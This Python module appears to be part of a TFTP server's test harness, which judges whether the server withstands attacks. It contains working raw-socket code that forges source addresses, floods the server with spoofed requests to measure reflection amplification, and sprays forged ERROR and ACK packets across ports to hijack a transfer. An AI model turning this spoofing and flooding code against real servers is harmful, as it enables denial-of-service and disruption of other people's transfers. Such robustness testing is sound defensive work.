"""Attacks by somebody who claims to be somebody else: blind injection, reflection, and a request to everybody."""

import contextlib
import ipaddress
import select
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

from ringfence.sim.attacks.target import AttackTarget, heard
from ringfence.sim.attacks.verdict import AttackVerdict, judged, not_run

REFLECTION_HOSTS = 250
REFLECTION_PORTS = 16
REFLECTION_WAIT_S = 9.0
LARGEST_FLOOD_FACTOR = 5.0
"""Octets at the victim for each octet of a flood of forged requests; servers in the wild reach 60."""
MOST_DATAGRAMS_PER_REQUEST = 3
WRONG_PORTS = 4000
UDP_AND_IP_BYTES = 28
_IP_HEADER = struct.Struct("!BBHHHBBH4s4s")
_PORT_RANGE = Path("/proc/sys/net/ipv4/ip_local_port_range")
_BLOCK = 512
_BURST = 50
_NO_RAW_SOCKET = "it forges source addresses: needs root, and a raw socket."


_VICTIMS = "127.66.250."
_IP_PKTINFO = 8
"""Linux's IP_PKTINFO (ip(7)), which Python's socket has no name for: to which address a datagram came."""
_PKTINFO = struct.Struct("=i4s4s")


@contextmanager
def _victims() -> Iterator[tuple[list[socket.socket], list[str]]]:
    """Give sockets that hear all that comes to a network's hosts, each at a port of its own, and those hosts."""
    with ExitStack() as stack:
        ears = []
        for _ in range(REFLECTION_PORTS):
            ear = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK))
            ear.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024 * 1024)
            ear.setsockopt(socket.IPPROTO_IP, _IP_PKTINFO, 1)
            ear.bind(("0.0.0.0", 0))  # noqa: S104 - which is 127.66.250.1 and those beside it
            ears.append(ear)
        yield ears, [f"{_VICTIMS}{number + 1}" for number in range(REFLECTION_HOSTS)]


def forged(source: tuple[str, int], to: tuple[str, int], data: bytes, *, ttl: int = 64) -> bytes:
    """Return an IPv4 datagram with a source address of one's own choice; the kernel adds the header's checksum."""
    length = 8 + len(data)
    header = _IP_HEADER.pack(
        0x45, 0, 20 + length, 0, 0, ttl, socket.IPPROTO_UDP, 0, socket.inet_aton(source[0]), socket.inet_aton(to[0])
    )
    return header + struct.pack("!HHHH", source[1], to[1], length, 0) + data  # a UDP checksum of 0: none


def _raw_socket() -> socket.socket | None:
    try:
        return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        return None


def reflection(target: AttackTarget, *, wait_s: float = REFLECTION_WAIT_S) -> AttackVerdict:
    """Send requests in victims' names: first one alone, then a flood, and weigh what reaches the victims."""
    raw = _raw_socket()
    if raw is None:
        return not_run("reflection", _NO_RAW_SOCKET)
    request = target.request()
    count = REFLECTION_HOSTS * REFLECTION_PORTS
    with raw, _victims() as (ears, hosts):
        ports = [ear.getsockname()[1] for ear in ears]
        raw.sendto(forged((hosts[0], ports[0]), target.server, request), (target.server[0], 0))
        lone = _weighed(ears, wait_s)
        for number in range(count):
            source = (hosts[number % len(hosts)], ports[number // len(hosts)])
            raw.sendto(forged(source, target.server, request), (target.server[0], 0))
            if number % _BURST == 0:
                select.select([], [], [], 0.002)  # otherwise the kernel's queue would be the defence
        flood = _weighed(ears, wait_s)
    sent = count * (len(request) + UDP_AND_IP_BYTES)
    lone_factor = lone[1] / (len(request) + UDP_AND_IP_BYTES)
    factor = flood[1] / sent
    return judged(
        "reflection",
        holds=lone[0] <= MOST_DATAGRAMS_PER_REQUEST and factor <= LARGEST_FLOOD_FACTOR,
        did=f"Sent {count} requests ({sent} octets with headers) with the forged addresses of {len(hosts)} hosts "
        "that never asked.",
        answered=f"{flood[0]} datagrams, {flood[1]} octets; {lone[0]} datagrams for one request alone.",
        because=f"The answers were {factor:.2f} times as large as the flood, and {lone_factor:.1f} times as large "
        "for one request alone.",
        figures={
            "request_bytes": len(request),
            "lone_datagrams": lone[0],
            "lone_factor": round(lone_factor, 2),
            "lone_factor_of_payloads": round((lone[1] - lone[0] * UDP_AND_IP_BYTES) / len(request), 2),
            "flood_requests": count,
            "flood_datagrams": flood[0],
            "flood_factor": round(factor, 2),
        },
    )


def _weighed(ears: list[socket.socket], wait_s: float) -> tuple[int, int]:
    """Return datagrams and octets with headers that come until nothing came for half of ``wait_s``, or twice it."""
    datagrams = octets = 0
    until = time.monotonic() + 2 * wait_s
    while time.monotonic() < until:
        ready = select.select(ears, [], [], wait_s / 2)[0]
        if not ready:
            break
        for ear in ready:
            while (size := _heard_by_a_victim(ear)) is not None:
                datagrams += size > 0
                octets += size and size + UDP_AND_IP_BYTES
    return datagrams, octets


def _heard_by_a_victim(ear: socket.socket) -> int | None:
    """Return the size of the next datagram, 0 if it was for another host of this machine; None where none is there."""
    try:
        data, told, _flags, _peer = ear.recvmsg(65_536, socket.CMSG_SPACE(_PKTINFO.size))
    except BlockingIOError:
        return None
    hosts = [
        _PKTINFO.unpack(value)[2] for level, kind, value in told if (level, kind) == (socket.IPPROTO_IP, _IP_PKTINFO)
    ]
    return len(data) if any(socket.inet_ntoa(host).startswith(_VICTIMS) for host in hosts) else 0


def blind_injection(target: AttackTarget) -> AttackVerdict:
    """Shoot ERRORs and ACKs at every port that a transfer may have, and in its client's name at the right port."""
    if len(target.content) < 2 * _BLOCK:
        return not_run("tid-injection", "it needs a file of more than 1024 octets; name one with --file.")
    first_port, last_port = map(int, _PORT_RANGE.read_text().split())
    words = (b"\0\5\0\0ended by a stranger\0", b"\0\4\0\1")
    sent = 0
    with target.socket() as phone, target.socket() as stranger:
        phone.sendto(target.request(), target.server)
        first = heard(phone, 1.0)
        if first is None:
            return not_run("tid-injection", "the server did not begin a transfer.")
        for port in range(first_port, last_port + 1):
            for data in words:
                with contextlib.suppress(OSError):  # an unreachable port of before
                    stranger.sendto(data, (target.server[0], port))
                sent += 1
        in_its_name = _shoot_in_the_clients_name(phone.getsockname(), first[1], words)
        heard_meanwhile = 0
        received, block = first[0][4:], 1
        while True:
            phone.sendto(b"\0\4" + block.to_bytes(2, "big"), first[1])
            one = _next_block(phone, block + 1)
            if one is None:
                break
            heard_meanwhile += one[1]
            received, block = received + one[0], block + 1
            if len(one[0]) < _BLOCK:
                phone.sendto(b"\0\4" + block.to_bytes(2, "big"), first[1])
                break
    is_whole = received == target.content
    return judged(
        "tid-injection",
        holds=is_whole,
        did=f"Sent {sent} ERRORs and ACKs to ports {first_port} to {last_port}, and {in_its_name} with the client's "
        "address "
        "and wrong ports.",
        answered=f"The client received {heard_meanwhile} datagrams that it did not wait for.",
        because=f"Its transfer {'ended complete' if is_whole else 'was lost'}.",
        figures={"forged": sent, "forged_in_its_name": in_its_name, "unawaited_datagrams": heard_meanwhile},
    )


def _shoot_in_the_clients_name(client: tuple[str, int], transfer: tuple[str, int], words: tuple[bytes, ...]) -> int:
    raw = _raw_socket()
    if raw is None:
        return 0
    sent = 0
    with raw:
        for number in range(WRONG_PORTS):
            port = 1024 + number * 16 % 64_000
            if port != client[1]:
                raw.sendto(forged((client[0], port), transfer, words[number % len(words)]), (transfer[0], 0))
                sent += 1
    return sent


def _next_block(phone: socket.socket, number: int) -> tuple[bytes, int] | None:
    """Return the awaited block's octets, and how many other datagrams came before it."""
    others = 0
    while (one := heard(phone, 5.0)) is not None:
        if one[0][:4] == b"\0\3" + number.to_bytes(2, "big"):
            return one[0][4:], others
        if one[0][:2] == b"\0\5":
            return None
        others += 1
    return None


def broadcast(target: AttackTarget) -> AttackVerdict:
    """Ask everybody on loopback at once: nobody should answer (RFC 1123 section 4.2.3.5)."""
    if not ipaddress.ip_address(target.server[0]).is_loopback:
        return not_run("broadcast", "outside loopback it would reach others: use 127.0.0.1 as the target.")
    with target.socket("127.0.0.1") as endpoint:
        endpoint.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            endpoint.sendto(target.request(), ("127.255.255.255", target.server[1]))
        except OSError as fault:
            return not_run("broadcast", f"this machine's loopback has no broadcast address: {fault.strerror}.")
        target.fetch()
        one = heard(endpoint, 0.2)
    return judged(
        "broadcast",
        holds=one is None,
        did="Sent one request to 127.255.255.255.",
        answered="Nothing." if one is None else f"{len(one[0])} octets.",
        because="A server that listens on one address only does not even receive it.",
        figures={"answers": int(one is not None)},
    )
